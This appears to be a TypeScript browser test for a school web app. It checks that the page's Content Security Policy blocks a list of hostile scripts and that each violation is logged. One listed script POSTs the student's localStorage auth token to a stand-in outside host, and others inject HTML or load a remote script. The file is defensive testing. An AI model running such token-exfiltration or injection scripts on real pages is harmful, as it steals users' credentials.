import { aStudent, password } from '#test/builders.ts'
import { journey } from './stage.ts'
import { seesHeading, signInStudent } from './steps.ts'

/** Scripts that a hostile text could try to run in a page, each with the rule of the policy that forbids it. */
const attempts: [rule: string, script: string][] = [
  ['require-trusted-types-for', "document.body.insertAdjacentHTML('beforeend', '<img src=/x>')"],
  [
    'script-src-elem',
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'script', href: 'https://elsewhere.example/x.js' }))",
  ],
  ['style-src-elem', "document.head.append(Object.assign(document.createElement('style'), { textContent: '* {}' }))"],
  ['img-src', "document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.example/maya.png' }))"],
  ['connect-src', "fetch('https://elsewhere.example/', { method: 'POST', body: localStorage.authToken })"],
  ['trusted-types', "trustedTypes.createPolicy('mine', { createHTML: (html) => html })"],
]

// Every journey is checked this way. This one shows that the check works.
journey('a page can’t do what its policy forbids, and every journey notices an attempt', async (stage) => {
  const { email } = await aStudent(stage.world, stage.school, 'Maya')
  const phone = await stage.phone()
  await signInStudent(phone, email, password)
  await seesHeading(phone, "Maya's Dashboard")
  for (const [rule, script] of attempts) {
    stage.expectTrouble(new RegExp(`securitypolicyviolation ${rule} `))
    const violation = phone.waitForEvent('console', (line) =>
      line.text().startsWith(`securitypolicyviolation ${rule} `),
    )
    // Runs like a script of the page. The script's own errors don't matter.
    await phone.evaluate(`Promise.resolve().then(() => ${script}).then(() => undefined, () => undefined)`)
    await violation
  }
  // The browser's own message, in addition to our log line.
  stage.expectTrouble(/console: .*(Content Security [Pp]olicy|TrustedHTML)/)
  stage.expectTrouble(/console: .*elsewhere\.example/)
  stage.expectTrouble(/phone: csp GET \/(x\.js|maya\.png)$/)
})
